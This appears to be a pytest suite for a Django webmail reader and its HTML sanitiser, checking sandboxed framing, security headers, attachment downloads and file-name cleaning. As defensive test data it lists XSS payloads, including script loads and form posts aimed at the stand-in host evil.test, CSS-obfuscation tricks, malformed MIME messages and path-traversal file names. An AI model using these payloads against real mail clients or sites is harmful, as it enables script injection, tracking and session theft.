"""The reader: what is shown, under which policy, and what hostile messages become."""

from __future__ import annotations

import asyncio
import re

import pytest
from django.test import AsyncClient, Client

from accounts.models import User
from mailservers.formats.mime import scan
from tests.webmail.conftest import HTMX, WEB, Put, letter
from webmail.reading.html import BODY_POLICY, TooComplex, clean_html, clean_style
from webmail.reading.layout import lay_out, part_at
from webmail.reading.parts import clean_name
from webmail.reading.plain import text_to_html

pytestmark = WEB

MIXED = b"""From: Carla <carla@far.test>
To: Anna <anna@harbour.test>
Subject: Parts
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=m

--m
Content-Type: multipart/alternative; boundary=a

--a
Content-Type: text/plain; charset=utf-8

plain words
--a
Content-Type: multipart/related; boundary=r

--r
Content-Type: text/html; charset=utf-8

<p>formatted <img src="cid:pic@x"> <img src="https://far.test/track.png"></p>
--r
Content-Type: image/png; name=pic.png
Content-ID: <pic@x>
Content-Transfer-Encoding: base64

iVBORw0KGgo=
--r--
--a--
--m
Content-Type: text/html; name="../../evil.html"
Content-Disposition: attachment; filename="../../ev\\"il.html"

<script>alert(1)</script>
--m
Content-Type: image/svg+xml
Content-Disposition: attachment; filename=x.svg

<svg onload="alert(1)"/>
--m--
""".replace(b"\n", b"\r\n")


def test_page_and_part(browser: Client, anna: User, put: Put) -> None:
    place = put(anna, letter("The subject", "words & <b>tags</b> http://link.test/a\r\n> one\r\n"))
    url = f"/mail/{place.mailbox_id}/{place.uid}/"
    page = browser.get(url).content.decode()
    part = browser.get(url, **HTMX).content.decode()
    assert "<html" in page
    assert "<html" not in part
    for text in (page, part):
        assert "The subject" in text
        assert "words &amp; &lt;b&gt;tags&lt;/b&gt;" in text
        assert '<a href="http://link.test/a" target="_blank" rel="noopener noreferrer nofollow">' in text
        assert 'value="read"' in text  # the unread message marks itself read by a POST


def test_history_is_restored_into_the_reader(browser: Client, anna: User, put: Put) -> None:
    place = put(anna, letter())
    back = {**HTMX, "HTTP_HX_HISTORY_RESTORE_REQUEST": "true"}
    for url in (f"/mail/{place.mailbox_id}/", f"/mail/{place.mailbox_id}/{place.uid}/"):
        assert b"hx-history-elt" in browser.get(url, **back).content


def test_html_is_framed_under_its_own_policy(browser: Client, anna: User, put: Put) -> None:
    place = put(anna, MIXED)
    url = f"/mail/{place.mailbox_id}/{place.uid}/"
    page = browser.get(url).content.decode()
    assert f'src="{url}html/1.2.1/"' in page
    assert 'sandbox="allow-same-origin allow-popups allow-popups-to-escape-sandbox"' in page
    body = browser.get(f"{url}html/1.2.1/")
    assert body["Content-Security-Policy"] == BODY_POLICY
    assert "allow-scripts" not in BODY_POLICY
    assert "X-Frame-Options" not in body
    assert body["Referrer-Policy"] == "no-referrer"
    text = body.content.decode()
    assert f'<img src="{url}part/1.2.2/">' in text
    assert "far.test" not in text
    assert 'data-blocked-images="1"' in text


def test_plain_form_can_be_chosen(browser: Client, anna: User, put: Put) -> None:
    place = put(anna, MIXED)
    page = browser.get(f"/mail/{place.mailbox_id}/{place.uid}/?view=text").content.decode()
    assert "plain words" in page
    assert "message-frame" not in page


@pytest.mark.parametrize(("address", "type_"), [("2", "octet-stream"), ("3", "octet-stream"), ("1.2.2", "image/png")])
def test_parts_are_saved_never_opened(browser: Client, anna: User, put: Put, address: str, type_: str) -> None:
    place = put(anna, MIXED)
    answer = browser.get(f"/mail/{place.mailbox_id}/{place.uid}/part/{address}/")
    assert answer["Content-Type"].endswith(type_)
    assert answer["Content-Disposition"].startswith("attachment; ")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer["Content-Security-Policy"]
    assert "/" not in answer["Content-Disposition"].partition("filename")[2]


@pytest.mark.parametrize("address", ["9", "1.9", "x", "1..2", "-1", "0.1", "1.2.1.1", "99999999999", "²"])
def test_missing_parts_are_not_found(browser: Client, anna: User, put: Put, address: str) -> None:
    place = put(anna, MIXED)
    for kind in ("part", "html"):
        assert browser.get(f"/mail/{place.mailbox_id}/{place.uid}/{kind}/{address}/").status_code == 404


def test_source_and_file(browser: Client, anna: User, put: Put) -> None:
    place = put(anna, MIXED)
    url = f"/mail/{place.mailbox_id}/{place.uid}/"
    assert "&lt;script&gt;" in browser.get(f"{url}source/").content.decode()
    raw = browser.get(f"{url}raw/")
    assert raw.content == MIXED
    assert 'filename="Parts.eml"' in raw["Content-Disposition"]


@pytest.mark.parametrize(
    "page", ["", "?view=text", "source/", "raw/", "part/2/", "part/3/", "part/1.2.2/", "html/1.2.1/"]
)
async def test_a_large_message_is_the_same_read_in_windows(
    browser: Client, anna: User, put: Put, settings, page
) -> None:
    place = await asyncio.to_thread(put, anna, MIXED)
    client = AsyncClient()
    client.cookies = browser.cookies

    async def octets() -> tuple[bool, bytes]:
        answer = await client.get(f"/mail/{place.mailbox_id}/{place.uid}/{page}")
        assert answer.status_code == 200
        if answer.streaming:
            return True, b"".join([piece async for piece in answer.streaming_content])
        return False, re.sub(
            rb'name="csrfmiddlewaretoken" value="[^"]*"|nonce-?[^ >]*|X-CSRFToken[^}]*', b"", answer.content
        )

    is_streamed, whole = await octets()
    assert not is_streamed and whole
    settings.STREAM_OVER = 100
    assert await octets() == (page.startswith(("raw", "part")), whole)


HOSTILE = [
    b"",
    b"\0" * 100,
    b"Subject: =?utf-8?b?/////w==?=\r\nFrom: \x00\xff<script>\r\n\r\n\xff\xfe\x00",
    b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: message/rfc822\r\n\r\nSubject: in\r\n\r\n",
    b"Content-Type: text/html\r\n\r\n" + b"<div>" * 50_000,
    b"From: <script>alert(1)</script> <a@b>\r\nSubject: <img src=x onerror=alert(1)>\r\n\r\n<svg/onload=alert(1)>",
    b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-",
    b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n====",
]


@pytest.mark.parametrize("raw", HOSTILE)
def test_any_octets_are_shown(browser: Client, anna: User, put: Put, raw: bytes) -> None:
    place = put(anna, raw)
    url = f"/mail/{place.mailbox_id}/{place.uid}/"
    for path in (url, f"{url}source/", f"{url}raw/", f"{url}part/0/", f"/mail/{place.mailbox_id}/"):
        text = browser.get(path)
        assert text.status_code == 200
        if not path.endswith(("raw/", "part/0/")):
            assert b"<script>alert" not in text.content
            assert b"onerror=alert(1)>" not in text.content.replace(b"&gt;", b"")
    for answer in ("reply", "reply-all", "forward"):
        assert browser.get(f"/mail/compose/{answer}/{place.mailbox_id}/{place.uid}/").status_code == 200
    assert browser.get(f"{url}html/0/").status_code in (200, 404)


# ---------------------------------------------------------------- the sanitiser

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.test></object><embed src=//evil.test>",
    "<form action=https://evil.test><input name=p><button>go</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/sign-out/'>x</a>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<style>@import 'https://evil.test/x.css'; *{background:url(https://evil.test)}</style>",
    "<p style='background:url(https://evil.test/x)'>x</p>",
    "<p style='background:u\\72l(https://evil.test/x)'>x</p>",
    "<p style='background:u/**/rl(https://evil.test/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<table background=https://evil.test/x><tr><td background='https://evil.test/y'>x</td></tr></table>",
    "<img src=https://evil.test/x srcset='https://evil.test/y 2x'>",
    "<img src=//evil.test/x><img src='http:evil.test'><img src=/mail/act/>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<video src=https://evil.test poster=https://evil.test></video><audio src=https://evil.test>",
    "<input type=image src=https://evil.test onerror=alert(1)>",
    "<body background=https://evil.test onload=alert(1)>x</body>",
    "<div id=content class=toast>x</div>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<a href='https://ok.test' ping='https://evil.test' onclick=alert(1)>x</a>",
    "<image src=https://evil.test/x>",
]


@pytest.mark.parametrize("markup", ATTACKS)
def test_attacks_leave_nothing(markup: str) -> None:
    cleaned = clean_html(markup, lambda content_id: None).markup.lower()
    for bad in (
        "evil",
        "script",
        "onerror",
        "onload",
        "onclick",
        "javascript",
        "url(",
        "position",
        "/sign-out",
        "/act",
    ):
        assert bad not in cleaned.replace("alert(1)", ""), cleaned
    for tag in ("<form", "<input", "<style", "<svg", "<math", "<iframe", "<base", "<meta", "<link", " id=", " class="):
        assert tag not in cleaned, cleaned


def test_ordinary_mail_keeps_its_looks() -> None:
    source = (
        '<table width="600" bgcolor="#ffffff" cellpadding="4"><tr>'
        '<td style="color:#333;font-size:14px;padding:4px 8px"><b>Hello</b> <a href="https://ok.test/x?a=1&amp;b=2">link</a></td></tr></table>'
    )
    cleaned = clean_html(source, lambda content_id: None)
    for kept in ('bgcolor="#ffffff"', "font-size:14px", "padding:4px 8px", 'href="https://ok.test/x?a=1&amp;b=2"'):
        assert kept in cleaned.markup
    assert cleaned.is_coloured
    assert not clean_html("<p>plain</p>", lambda content_id: None).is_coloured


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 100_000,
        "".join(f"<font color={n}>" for n in range(250)) + "<p>" * 100_000,
        "x" * 2_000_000,
        "<br>" * 100_000,
    ],
)
def test_costly_html_is_refused_at_once(markup: str) -> None:
    with pytest.raises(TooComplex):
        clean_html(markup, lambda content_id: None)


def test_styles_by_declaration() -> None:
    assert clean_style("color:red;behavior:url(x);margin: 0 ") == "color:red;margin:0"
    assert clean_style("position:absolute") is None


# ---------------------------------------------------------------- parts and text


def test_layout_of_parts() -> None:
    root = scan(MIXED)
    layout = lay_out(root)
    [text] = layout.texts
    assert (text.html and text.html.address, text.plain and text.plain.address) == ("1.2.1", "1.1")
    assert [place.address for place in layout.attachments] == ["2", "3"]
    assert list(layout.inline) == ["pic@x"]
    found = part_at(root, "1.2.2")
    assert found is not None
    assert found.subtype == b"png"


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\x\\y.doc", "y.doc"),
        ("a\r\nb.txt", "ab.txt"),
        ("evil\u202egpj.exe", "evilgpj.exe"),
        ("..", ""),
        ('a"b?.txt', "a_b_.txt"),
        ("x" * 300 + ".pdf", "x" * 138 + ".pdf"),
    ],
)
def test_file_names(name: str, clean: str) -> None:
    assert clean_name(name) == clean


def test_long_quotes_are_folded() -> None:
    text = text_to_html("hi\n" + "> q\n" * 10 + "-- \nme")
    assert "Quoted text (10 lines)" in text
    assert '<div class="signature">' in text
